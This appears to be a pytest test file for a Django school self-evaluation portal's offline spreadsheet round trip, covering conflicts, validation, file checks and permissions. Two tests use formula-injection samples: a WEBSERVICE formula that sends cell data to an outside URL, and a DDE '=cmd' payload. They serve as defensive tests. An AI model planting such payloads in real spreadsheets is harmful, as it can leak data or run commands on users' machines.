"""A self-evaluation goes out as a sheet and comes back: nothing is lost, nothing is overwritten in silence."""

from __future__ import annotations

from io import BytesIO

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from kit.refusals import Refused
from riskmatrix.models import Evaluation, MatrixUpload, Rating
from riskmatrix.queries.offline import Verdict, compared
from riskmatrix.services import offline, self_evaluation
from riskmatrix.services.moderation import REASON_LIMIT
from riskmatrix.services.offline import Keep
from riskmatrix.services.self_evaluation import COMMENTARY_LIMIT
from riskmatrix.sheets.cells import TEXT_LIMIT
from schools.models import AuditEntry, Person
from tests.cast import Cast
from tests.riskmatrix.conftest import own
from tests.riskmatrix.sheets import (
    Clients,
    Row,
    as_file,
    as_upload,
    downloaded,
    edited,
    rows_of,
    uploaded,
    with_formula,
    workbook,
)
from tests.states import submitted

INTENT = "clarity-of-curriculum-intent"
TYPED = {"Rating": "High", "Commentary": "Typed on the train.\nTwo lines."}


@pytest.fixture
def head(cast: Cast, client_of: Clients) -> Client:
    return client_of(cast.headteacher)


def kpi_codes(evaluation: Evaluation) -> list[str]:
    return [kpi.code for _, kpi in evaluation.framework.spec.kpis()]


def save(evaluation: Evaluation, code: str, by: Person, **said: str) -> Rating:
    rating = own(evaluation, code)
    return self_evaluation.save_rating(rating=rating, version=rating.version, by=by, **said)


def sheet_of(evaluation: Evaluation) -> bytes:
    from kit.sheets import xlsx_bytes
    from riskmatrix.queries.offline import asked_of
    from riskmatrix.sheets import offline as sheet
    from riskmatrix.sheets.cells import Answers

    answers = Answers.of(evaluation.framework.spec)
    return xlsx_bytes(sheet.HEADERS, sheet.rows(asked_of(evaluation).values(), answers))


def read(evaluation: Evaluation, data: bytes, by: Person) -> MatrixUpload:
    return offline.read(evaluation=evaluation, upload=as_upload(data), by=by)


def verdicts(upload: MatrixUpload, evaluation: Evaluation) -> dict[str, Verdict]:
    return {line.filled.kpi: line.verdict for line in compared(upload, evaluation).lines}


@pytest.mark.parametrize("name", ["evaluation_sheet", "evaluation_sheet_csv"])
def test_a_sheet_that_comes_back_as_it_went_changes_nothing(
    evaluation: Evaluation, cast: Cast, head: Client, name: str
) -> None:
    save(evaluation, INTENT, cast.headteacher, answer="high", commentary="=1+1\n\n  Two spaces, 'quoted' ")
    save(evaluation, kpi_codes(evaluation)[9], cast.headteacher, commentary="'=2")
    data = downloaded(head, evaluation, name)
    assert len(rows_of(data)) == 39
    upload = uploaded(head, evaluation, data, "sheet.csv" if name.endswith("csv") else "sheet.xlsx")
    assert upload.findings == []
    assert set(verdicts(upload, evaluation).values()) == {Verdict.SAME}
    assert b"Nothing changes" in head.get(upload.get_absolute_url()).content
    assert offline.apply(upload=upload, kept={}, by=cast.headteacher) == 0


def test_what_was_typed_offline_is_looked_at_and_then_saved(
    evaluation: Evaluation, cast: Cast, head: Client
) -> None:
    second = kpi_codes(evaluation)[9]
    save(evaluation, second, cast.headteacher, answer="low", commentary="Before.")
    changes = {INTENT: TYPED, second: {"Rating": " moderate "}}
    upload = uploaded(head, evaluation, edited(downloaded(head, evaluation), changes))
    found = verdicts(upload, evaluation)
    assert (found[INTENT], found[second]) == (Verdict.NEW, Verdict.CHANGED)
    assert own(evaluation, INTENT).state == "unrated"
    page = head.get(upload.get_absolute_url()).content.decode()
    for said in ("Typed on the train.", "Before.", "Take over the sheet", "37 rows that change nothing"):
        assert said in page
    assert (
        "A sheet waits for you"
        in head.get(reverse("evaluation_offline", args=[evaluation.pk])).content.decode()
    )
    done = head.post(upload.get_absolute_url(), follow=True)
    assert "2 KPIs were changed as your sheet says." in done.content.decode()
    rating = own(evaluation, INTENT)
    assert (rating.answer, rating.commentary, rating.version) == ("high", TYPED["Commentary"], 1)
    assert own(evaluation, second).answer == "moderate"
    upload.refresh_from_db()
    assert (upload.rows, upload.applied_by) == ([], cast.headteacher)
    assert list(
        AuditEntry.objects.filter(verb__contains="sheet").values_list("verb", flat=True).order_by("pk")
    ) == [
        "read sheet",
        "took over sheet",
    ]
    with pytest.raises(Refused, match="already"):
        offline.apply(upload=upload, kept={}, by=cast.headteacher)


def test_a_row_that_both_changed_asks_which_to_keep(evaluation: Evaluation, cast: Cast, head: Client) -> None:
    second = kpi_codes(evaluation)[9]
    data = edited(downloaded(head, evaluation), {INTENT: TYPED, second: {"Commentary": "Only here."}})
    save(evaluation, INTENT, cast.deputy_headteacher, answer="low", commentary="In the portal.")
    upload = uploaded(head, evaluation, data)
    assert verdicts(upload, evaluation)[INTENT] is Verdict.CONFLICT
    page = head.get(upload.get_absolute_url()).content.decode()
    assert "In the portal." in page
    assert "Typed on the train." in page
    assert " checked" not in page

    unsaid = head.post(upload.get_absolute_url())
    assert unsaid.status_code == 422
    assert "Choose which text to keep" in unsaid.content.decode()
    assert own(evaluation, second).commentary == ""

    stale = head.post(upload.get_absolute_url(), {f"keep-{INTENT}": "mine:0"})
    assert stale.status_code == 422
    assert own(evaluation, INTENT).commentary == "In the portal."

    assert head.post(upload.get_absolute_url(), {f"keep-{INTENT}": "mine:1"}).status_code == 302
    assert own(evaluation, INTENT).commentary == TYPED["Commentary"]
    assert own(evaluation, second).commentary == "Only here."
    entry = AuditEntry.objects.get(verb="took over sheet")
    assert entry.after["instead of the portal's"] == [INTENT]


def test_what_stands_in_the_portal_may_be_kept(evaluation: Evaluation, cast: Cast) -> None:
    data = edited(sheet_of(evaluation), {INTENT: TYPED})
    save(evaluation, INTENT, cast.deputy_headteacher, commentary="In the portal.")
    upload = read(evaluation, data, cast.headteacher)
    count = offline.apply(upload=upload, kept={INTENT: Keep(mine=False, version=1)}, by=cast.headteacher)
    assert count == 0
    assert own(evaluation, INTENT).commentary == "In the portal."


def test_a_choice_between_other_texts_does_not_count(evaluation: Evaluation, cast: Cast) -> None:
    """Somebody saves between the dry run and the confirmation: the row is asked for, not overwritten."""
    upload = read(evaluation, edited(sheet_of(evaluation), {INTENT: TYPED}), cast.headteacher)
    save(evaluation, INTENT, cast.deputy_headteacher, commentary="In the portal.")
    with pytest.raises(Refused) as refused:
        offline.apply(upload=upload, kept={}, by=cast.headteacher)
    assert refused.value.refusal.code == "not-decided"
    assert own(evaluation, INTENT).commentary == "In the portal."


def test_a_row_nobody_touched_in_the_file_leaves_the_portal_as_it_is(
    evaluation: Evaluation, cast: Cast, head: Client
) -> None:
    data = sheet_of(evaluation)
    save(evaluation, INTENT, cast.deputy_headteacher, commentary="In the portal.")
    upload = read(evaluation, data, cast.headteacher)
    assert set(verdicts(upload, evaluation).values()) == {Verdict.SAME}
    assert b"What stands in the portal stays" in head.get(upload.get_absolute_url()).content


FAULTS: list[tuple[Row, str]] = [
    (
        {"Rating": "Very bad"},
        "“Very bad” is no rating. Write one of: Low, Moderate, High, Critical, Not applicable.",
    ),
    ({"Rating": "Not applicable"}, "This KPI applies to the school and needs a rating."),
    ({"Commentary": "x" * 5_001}, "This has 5,001 characters. Shorten it by 1 to fit the limit of 5,000."),
    ({"KPI code": "nonsense"}, "“nonsense” is no KPI of this framework."),
    ({"KPI code": ""}, "“” is no KPI of this framework."),
    ({"Mark of the row (leave it as it is)": "7"}, "The mark of the row is not as it was."),
    (
        {"Mark of the row (leave it as it is)": f"999999-0-{'0' * 20}"},
        "The row is of another school or another term.",
    ),
]


@pytest.mark.parametrize(("change", "sentence"), FAULTS)
def test_one_row_that_cannot_be_taken_holds_back_all(
    evaluation: Evaluation, cast: Cast, change: Row, sentence: str
) -> None:
    codes = kpi_codes(evaluation)
    at = codes.index(INTENT)
    upload = read(
        evaluation, edited(sheet_of(evaluation), {INTENT: change, codes[-1]: TYPED}), cast.headteacher
    )
    (finding,) = upload.findings
    assert finding["row"] == at + 2
    assert sentence in f"{finding['problem']} {finding['remedy']}"
    assert finding["column"] in {*change, "KPI code"}
    with pytest.raises(Refused, match="Mend what is refused"):
        offline.apply(upload=upload, kept={}, by=cast.headteacher)
    assert not evaluation.ratings.filter(version__gt=0).exists()


def test_findings_stand_on_the_page_and_nothing_can_be_confirmed(
    evaluation: Evaluation, head: Client
) -> None:
    data = edited(downloaded(head, evaluation), {INTENT: {"Rating": "<b>bad</b>"}})
    page = head.get(uploaded(head, evaluation, data).get_absolute_url()).content.decode()
    assert "&lt;b&gt;bad&lt;/b&gt;" in page
    assert "1 thing to mend first" in page
    assert "Take over the sheet" not in page


def test_a_kpi_twice_is_told(evaluation: Evaluation, cast: Cast) -> None:
    rows = rows_of(sheet_of(evaluation))
    upload = read(evaluation, workbook([*rows, rows[0]]), cast.headteacher)
    assert [finding["problem"] for finding in upload.findings] == ["This KPI stands in row 2 already."]


def test_rows_that_are_not_in_the_file_stay_as_they_are(evaluation: Evaluation, cast: Cast) -> None:
    save(evaluation, kpi_codes(evaluation)[-1], cast.headteacher, commentary="Stays.")
    rows = [{**row, **TYPED} for row in rows_of(sheet_of(evaluation)) if row["KPI code"] == INTENT]
    upload = read(evaluation, workbook(rows), cast.headteacher)
    assert offline.apply(upload=upload, kept={}, by=cast.headteacher) == 1
    assert own(evaluation, kpi_codes(evaluation)[-1]).commentary == "Stays."


def test_a_formula_is_not_what_anybody_typed(evaluation: Evaluation, cast: Cast) -> None:
    data = with_formula(sheet_of(evaluation), "F2", '=WEBSERVICE("https://example.org/"&E2)')
    (finding,) = read(evaluation, data, cast.headteacher).findings
    assert (finding["row"], finding["column"], finding["problem"]) == (
        2,
        "Commentary",
        "The cell holds a formula.",
    )


def test_no_text_becomes_a_formula_in_the_workbook(evaluation: Evaluation, cast: Cast, head: Client) -> None:
    save(evaluation, INTENT, cast.headteacher, commentary="=cmd|' /C calc'!A0")
    sheet = openpyxl.load_workbook(BytesIO(downloaded(head, evaluation))).worksheets[0]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert "'=cmd" in downloaded(head, evaluation, "evaluation_sheet_csv").decode()


def test_the_workbook_helps_to_fill_it_in(evaluation: Evaluation, head: Client) -> None:
    book = openpyxl.load_workbook(BytesIO(downloaded(head, evaluation)))
    sheet = book.worksheets[0]
    (rule,) = sheet.data_validations.dataValidation
    assert (str(rule.sqref), rule.formula1) == ("E2:E40", "'Lists'!$A$1:$A$5")
    assert [cell.value for cell in book["Lists"]["A"]] == [
        "Low",
        "Moderate",
        "High",
        "Critical",
        "Not applicable",
    ]
    assert book["Lists"].sheet_state == "hidden"
    grey = {cell.value: cell.fill.fill_type for cell in sheet[1]}
    assert (grey["KPI code"], grey["Rating"]) == ("solid", None)


@pytest.mark.parametrize(
    ("name", "data", "sentence"),
    [
        ("sheet.xlsx", b"", "The file is empty"),
        ("sheet.xlsx", b"PK\x03\x04 nothing", "damaged"),
        ("sheet.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "before 2007"),
        ("sheet.pdf", b"%PDF-1.4\nnothing\n%%EOF", "PDF"),
        ("sheet.txt", b"KPI code,Rating\n", "This is plain text. Send the sheet as .xlsx"),
        ("sheet.csv", b"KPI code,Rating\nx,Low\n", "The column “Commentary” is missing."),
        ("sheet.csv", b'KPI code,Rating\n"x,Low\n', "quotation mark"),
    ],
)
def test_a_file_that_is_no_such_sheet_is_told(
    evaluation: Evaluation, head: Client, name: str, data: bytes, sentence: str
) -> None:
    answer = head.post(reverse("evaluation_offline", args=[evaluation.pk]), {"file": as_file(data, name)})
    assert answer.status_code == 422
    assert sentence in answer.content.decode()
    assert not MatrixUpload.objects.exists()


def test_without_a_file_the_form_says_so(evaluation: Evaluation, head: Client) -> None:
    answer = head.post(reverse("evaluation_offline", args=[evaluation.pk]))
    assert answer.status_code == 422
    assert "Choose the sheet on your computer first." in answer.content.decode()


def test_a_second_file_takes_the_place_of_one_that_waits(evaluation: Evaluation, cast: Cast) -> None:
    for _ in range(2):
        read(evaluation, sheet_of(evaluation), cast.headteacher)
    read(evaluation, sheet_of(evaluation), cast.deputy_headteacher)
    assert MatrixUpload.objects.count() == 2


def test_a_submitted_one_can_be_read_offline_but_not_changed(
    cast: Cast, framework: object, head: Client
) -> None:
    evaluation = self_evaluation.begin(school=cast.alder, term=cast.autumn, by=cast.headteacher)
    waiting = read(evaluation, edited(sheet_of(evaluation), {INTENT: TYPED}), cast.headteacher)
    submitted(cast.alder, cast.autumn, cast.headteacher)
    data = downloaded(head, evaluation)
    page = head.get(reverse("evaluation_offline", args=[evaluation.pk])).content.decode()
    assert "It can no longer be changed." in page
    assert 'type="file"' not in page
    answer = head.post(reverse("evaluation_offline", args=[evaluation.pk]), {"file": as_file(data)})
    assert (answer.status_code, b"It can no longer be changed." in answer.content) == (403, True)
    assert b"It can no longer be changed." in head.get(waiting.get_absolute_url()).content
    assert head.post(waiting.get_absolute_url()).status_code == 403
    with pytest.raises(Refused, match="no longer be changed"):
        read(evaluation, data, cast.headteacher)
    with pytest.raises(Refused, match="no longer be changed"):
        offline.apply(upload=waiting, kept={}, by=cast.headteacher)


def test_a_file_is_its_readers_own(evaluation: Evaluation, cast: Cast, client_of: Clients) -> None:
    waiting = read(evaluation, sheet_of(evaluation), cast.headteacher)
    for person in (cast.deputy_headteacher, cast.other_head, cast.foreign_head, cast.chief_executive):
        assert client_of(person).get(waiting.get_absolute_url()).status_code == 404
    for name in ("evaluation_offline", "evaluation_sheet", "evaluation_sheet_csv", "evaluation_blank_pdf"):
        assert client_of(cast.foreign_head).get(reverse(name, args=[evaluation.pk])).status_code == 404
    # The trust reads nothing of a draft.
    chief = client_of(cast.chief_executive)
    assert chief.get(reverse("evaluation_sheet", args=[evaluation.pk])).status_code == 403
    assert chief.get(reverse("evaluation_filled_pdf", args=[evaluation.pk])).status_code == 403


def test_the_dry_run_asks_the_same_for_one_row_as_for_three(
    evaluation: Evaluation, cast: Cast, head: Client
) -> None:
    counts = []
    for number in (1, 3):
        changes = dict.fromkeys(kpi_codes(evaluation)[:number], TYPED)
        upload = read(evaluation, edited(sheet_of(evaluation), changes), cast.headteacher)
        with CaptureQueriesContext(
            connection,
        ) as queries:
            head.get(reverse("matrix_upload", args=[upload.pk]))
        counts.append(len(queries))
    assert counts[0] == counts[1] <= 12


def test_the_page_of_the_evaluation_keeps_one_main_action(evaluation: Evaluation, head: Client) -> None:
    page = head.get(evaluation.get_absolute_url()).content.decode()
    assert reverse("evaluation_offline", args=[evaluation.pk]) in page
    assert page.count("btn btn-primary") == 1


def test_texts_have_the_limit_of_the_pages() -> None:
    assert {TEXT_LIMIT} == {COMMENTARY_LIMIT, REASON_LIMIT}
